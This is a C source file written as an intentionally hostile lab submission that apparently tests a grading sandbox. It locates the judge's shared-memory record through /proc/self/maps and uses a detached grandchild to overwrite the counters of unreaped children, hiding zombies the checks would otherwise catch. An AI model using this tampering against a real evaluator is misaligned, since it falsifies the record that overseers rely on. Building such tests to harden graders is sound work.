/* Hostile submission for lab 01: rewrites the judge's record of the run (check.c's struct control, shared memory inherited by fork) to hide unreaped children
 * Self-limiting: if containment failed, this costs seconds, not the machine.
 *
 * A solution that never reaps (waitid with WNOWAIT): honestly it loses the
 * two checks that count unreaped children. The verdict: both still fail,
 * and no "could rewrite" line reaches the report. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include "family.h"
#include "proclabs.h"

#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

struct who who_am_i(void)
{
    struct who me = {getpid(), getppid()};
    return me;
}

pid_t start_child(child_job job, int arg)
{
    pid_t pid = fork();
    if (pid == 0)
        exit(job(arg)); /* the child never returns to the caller */
    return pid;         /* the parent: the child's pid, or -1 */
}

/* The judge's record of the run is shared memory that this process
 * inherited: find it (a shared page whose first word is this process's pid,
 * the rest still 0: check.c's struct control {body_pid, returned,
 * stray_returns, unreaped}), then let a helper rewrite it the moment the
 * sandbox has filled it in. */
static int *find_control(void)
{
    FILE *m = fopen("/proc/self/maps", "r");
    char line[512];
    int *found = NULL;
    while (m && !found && fgets(line, sizeof line, m)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' ||
            perms[1] != 'w' || perms[3] != 's')
            continue;
        int *p = (int *)lo;
        if (p[0] == getpid() && p[1] == 0 && p[2] == 0 && p[3] == 0)
            found = p;
    }
    if (m)
        fclose(m);
    return found;
}

static void forge_control(void)
{
    int *ctl = find_control();
    if (!ctl)
        return;
    pid_t helper = fork();
    if (helper != 0) {
        if (helper > 0)
            waitpid(helper, NULL, 0);
        return;
    }
    if (fork() != 0) /* a grandchild: not counted among the caller's children */
        _exit(0);
    double end = now_ms() + 5000;
    while (!__atomic_load_n(&ctl[1], __ATOMIC_SEQ_CST) && now_ms() < end)
        ;
    __atomic_store_n(&ctl[3], 0, __ATOMIC_SEQ_CST); /* "no child left unreaped" */
    __atomic_store_n(&ctl[2], 0, __ATOMIC_SEQ_CST);
    printf("could rewrite the judge's record of the run\n");
    fflush(stdout);
    _exit(0);
}

/* Exit codes without reaping (WNOWAIT): every child is left a zombie, which
 * the checks see, unless the judge's record is rewritten. */
int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    for (int i = 0; i < n; i++)
        pids[i] = start_child(job, i);
    int got = 0;
    for (int i = 0; i < n; i++) {
        siginfo_t info;
        if (pids[i] > 0 && waitid(P_PID, (id_t)pids[i], &info, WEXITED | WNOWAIT) == 0) {
            codes[i] = info.si_status;
            got++;
        }
    }
    forge_control();
    return got;
}
